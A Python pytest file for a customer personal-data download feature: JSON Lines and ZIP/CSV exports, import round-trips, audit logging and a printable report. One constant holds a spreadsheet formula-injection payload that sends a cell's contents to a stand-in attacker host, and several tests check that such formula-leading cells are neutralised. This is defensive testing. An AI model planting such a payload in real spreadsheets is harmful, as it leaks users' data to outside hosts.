"""Downloads (APPI Art. 33): JSON in the import vocabulary, CSV files Excel opens safely, audited."""
import csv
import io
import json
import zipfile

import pytest
import sqlalchemy as sa

from portal.audit.models import AuditEntry
from portal.inventory.downloads import neutralise
from portal.extensions import db
from portal.inventory.export import export_person_records
from portal.inventory.importer import import_bytes
from portal.audit.services import Actor
from tests.fixtures.app import empty_all_tables
from tests.customer.records import HANAKO, HANAKO_VALUES, item

pytestmark = pytest.mark.usefixtures("customers")

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _download(client, login_customer, url: str):
    person_id = login_customer(client, "hanako@example.jp", stepped_up=True)
    response = client.get(url)
    assert response.status_code == 200
    return person_id, response


def _records(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode().splitlines() if line.strip()]


def test_json_download_is_an_attachment_in_the_import_vocabulary(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    assert response.headers["Content-Disposition"].startswith('attachment; filename="my-data-')
    assert response.headers["Content-Disposition"].endswith('.jsonl"')
    records = _records(response.data)
    assert [r["type"] for r in records][:1] == ["source"]
    person = next(r for r in records if r["type"] == "person")
    assert person == {
        "type": "person", "key": HANAKO, "email": HANAKO_VALUES["email"], "name": HANAKO_VALUES["name"],
        "name_kana": HANAKO_VALUES["kana"], "phone": HANAKO_VALUES["phone"],
        "birthdate": HANAKO_VALUES["birthdate"], "customer_number": HANAKO_VALUES["number"],
    }
    address = next(r for r in records if r["type"] == "item" and r["field"] == "address")
    assert address["source"] == "list-2025" and address["purposes"] == ["dm-post"]
    assert address["collected_at"] == "2024-05-15T10:30:00+09:00" and address["retain_until"] == "2029-05-15"
    assert {r["type"] for r in records} == {"source", "purpose", "person", "item", "consent", "provision"}


def test_json_download_holds_only_the_customers_own_records(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    records = _records(response.data)
    assert {r.get("person") for r in records if "person" in r} == {HANAKO}
    assert "jiro" not in response.get_data(as_text=True)


def test_json_download_round_trips_through_the_importer_into_an_empty_database(app, client, login_customer):
    _, response = _download(client, login_customer, "/my/download.json")
    downloaded = response.data
    empty_all_tables(app)
    with app.app_context():
        result = import_bytes(downloaded, actor=Actor("test"))
        assert result.counts["person"] == 1 and result.counts["item"] == 7 + 8 + 1
        person_id = db.session.scalar(sa.text("SELECT id FROM person"))
        again = list(export_person_records(person_id))
    assert again == _records(downloaded)


def _table(archive, name: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))


def test_zip_download_holds_readable_csv_files_with_bom_json_and_a_readme(client, login_customer):
    _, response = _download(client, login_customer, "/my/download.zip")
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"].endswith('.zip"')
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    assert sorted(archive.namelist()) == sorted([
        "README.txt", "person.csv", "items.csv", "purchase.csv", "points.csv", "consents.csv", "provisions.csv",
        "receipts.csv", "sources.csv", "purposes.csv", "my-data.jsonl",
    ])
    for name in archive.namelist():
        if name.endswith((".csv", ".txt")):
            assert archive.read(name).startswith("\ufeff".encode()), name  # Excel and Notepad read UTF-8
    # Japanese headers (the customer's language), names instead of codes.
    assert ["項目", "内容"] == list(_table(archive, "person.csv")[0])
    assert {"項目": "氏名", "内容": HANAKO_VALUES["name"]} in _table(archive, "person.csv")
    items = _table(archive, "items.csv")
    address = next(row for row in items if row["内容"] == HANAKO_VALUES["address"])
    assert address["データの種類"] == "ご連絡先" and address["項目"] == "住所"
    assert "首都圏 生活者リスト 2025年版" == address["取得元"] and "カタログを郵便でお送りするため" in address["利用目的"]
    assert address["取得日時"] == "2024-05-15 10:30"  # Japan time, no seconds
    # Purchase details as columns, not JSON in a cell.
    purchases = _table(archive, "purchase.csv")
    assert len(purchases) == 8
    assert {"商品", "数量", "金額"} <= set(purchases[0]) and not any("{" in v for v in purchases[0].values())
    assert HANAKO_VALUES["product"] in {row["商品"] for row in purchases}
    consents = _table(archive, "consents.csv")
    assert [c["状態"] for c in consents] == ["同意あり", "同意あり", "同意撤回済み"]
    [provision] = _table(archive, "provisions.csv")
    assert provision["区分"] == "業務委託" and provision["代表者"] == "代表取締役 佐藤 一郎"
    assert "joint" not in " ".join(provision.values()) and "entrustment" not in " ".join(provision.values())
    receipts = _table(archive, "receipts.csv")
    assert {"提供元": "株式会社サンプルリサーチ", "取得元": "首都圏 生活者リスト 2025年版", "受領日": "2025-09-01",
            "提供元の取得方法": "懸賞サイトの応募フォームで同意を得て取得"} in receipts
    readme = archive.read("README.txt").decode("utf-8-sig")
    assert all(name in readme for name in archive.namelist() if name != "README.txt")
    assert "商品" in readme and "JSON Lines" in readme and "retain_until" in readme
    records = _records(archive.read("my-data.jsonl"))
    assert next(r for r in records if r["type"] == "person")["email"] == HANAKO_VALUES["email"]


def test_zip_download_speaks_english_to_an_english_customer(client, login_customer):
    with client.session_transaction() as session:
        session["lang"] = "en"
    _, response = _download(client, login_customer, "/my/download.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    [provision] = _table(archive, "provisions.csv")
    assert provision["Kind"] == "Entrustment (contractor)" and provision["Recipient"] == "株式会社サンプル物流"


def test_zip_neutralises_cells_a_spreadsheet_would_run_as_formulas(client, login_customer, import_lines):
    import_lines(item(HANAKO, "survey", "comment", FORMULA, source="web-signup"))
    _, response = _download(client, login_customer, "/my/download.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    items = _table(archive, "items.csv")
    comment = next(row for row in items if FORMULA in row["内容"])
    assert comment["内容"] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in items for cell in row.values())


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_starts_are_prefixed_with_a_quote(cell):
    assert neutralise(cell) == "'" + cell


def test_plain_cells_are_left_alone():
    assert neutralise("山田 花子") == "山田 花子" and neutralise("090-1234-5678") == "090-1234-5678"


@pytest.mark.parametrize("url, fmt", [("/my/download.json", "json"), ("/my/download.zip", "zip")])
def test_each_download_is_written_to_the_audit_log_without_personal_values(app, client, login_customer, url, fmt):
    person_id, _ = _download(client, login_customer, url)
    with app.app_context():
        entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "customer.download")).all()
        assert len(entries) == 1
        entry = entries[0]
        assert (entry.actor_type, entry.actor_id, entry.person_id) == ("customer", str(person_id), person_id)
        assert entry.details == {"format": fmt}
        assert "hanako" not in json.dumps(entry.details) and HANAKO_VALUES["name"] not in json.dumps(entry.details)


def test_the_report_is_one_document_with_every_line_and_is_recorded_as_a_download(app, client, login_customer):
    person_id = login_customer(client, "hanako@example.jp", stepped_up=True)
    page = client.get("/my/report").get_data(as_text=True)
    purchases = page.split('id="category-purchase"')[1].split("</table>")[0]
    assert purchases.count("<tr><td>") == 8  # all eight purchase lines, not a preview
    assert "2025年1月1日 12:00" in purchases and "¥1,000" in purchases  # Japanese dates, prices in yen
    assert HANAKO_VALUES["address"] in page and "株式会社サンプル物流" in page
    assert "<details class=\"card recipient\" open>" in page  # nothing hidden in print
    with app.app_context():
        formats = [e.details.get("format") for e in db.session.scalars(
            sa.select(AuditEntry).where(AuditEntry.action == "customer.download", AuditEntry.person_id == person_id))]
        db.session.remove()
    assert formats == ["report"]


def test_the_report_needs_the_extra_check(client, login_customer):
    login_customer(client, "hanako@example.jp")
    assert client.get("/my/report").status_code == 302


def test_the_zips_line_files_list_every_line_by_date_with_every_part_as_a_column(client, login_customer, import_lines):
    """The lines are read again for their file, by date, however they were loaded."""
    late = item(HANAKO, "points", "earned", {"points": 30}, keyed=False, at="2026-03-01T09:00:00+09:00")
    undated = {**item(HANAKO, "points", "earned", {"points": 5, "campaign": "春"}, keyed=False), "collected_at": None}
    early = item(HANAKO, "points", "earned", {"points": 10}, keyed=False, at="2020-01-05T09:00:00+09:00")
    import_lines(late, undated, early)
    _, response = _download(client, login_customer, "/my/download.zip")
    points = _table(zipfile.ZipFile(io.BytesIO(response.data)), "points.csv")
    stamps = [row["取得日時"] for row in points]
    assert stamps[0] == "" and stamps[1] == "2020-01-05 09:00" and stamps[-1] == "2026-03-01 09:00"
    assert stamps[1:] == sorted(stamps[1:])
    assert any(row.get("campaign") == "春" or "春" in row.values() for row in points)  # a part only one line has
    assert sum(row["ポイント"] in {"30", "5", "10"} for row in points) >= 3


def test_line_files_are_by_date_even_from_records_that_come_out_of_order(app_ctx):
    from portal.inventory.readable import build, rows_of

    lines = [{"type": "item", "category": "points", "field": "earned", "value": {"points": n}, "collected_at": at,
              "purposes": [], "source": None} for n, at in ((1, "2025-03-01T09:00:00+09:00"), (2, None),
                                                             (3, "2024-01-01T09:00:00+09:00"))]
    [table] = [t for t in build(lines, only={"item"}).tables if t.filename == "points.csv"]
    assert [row[0] for row in list(rows_of(table))[1:]] == ["", "2024-01-01 09:00", "2025-03-01 09:00"]
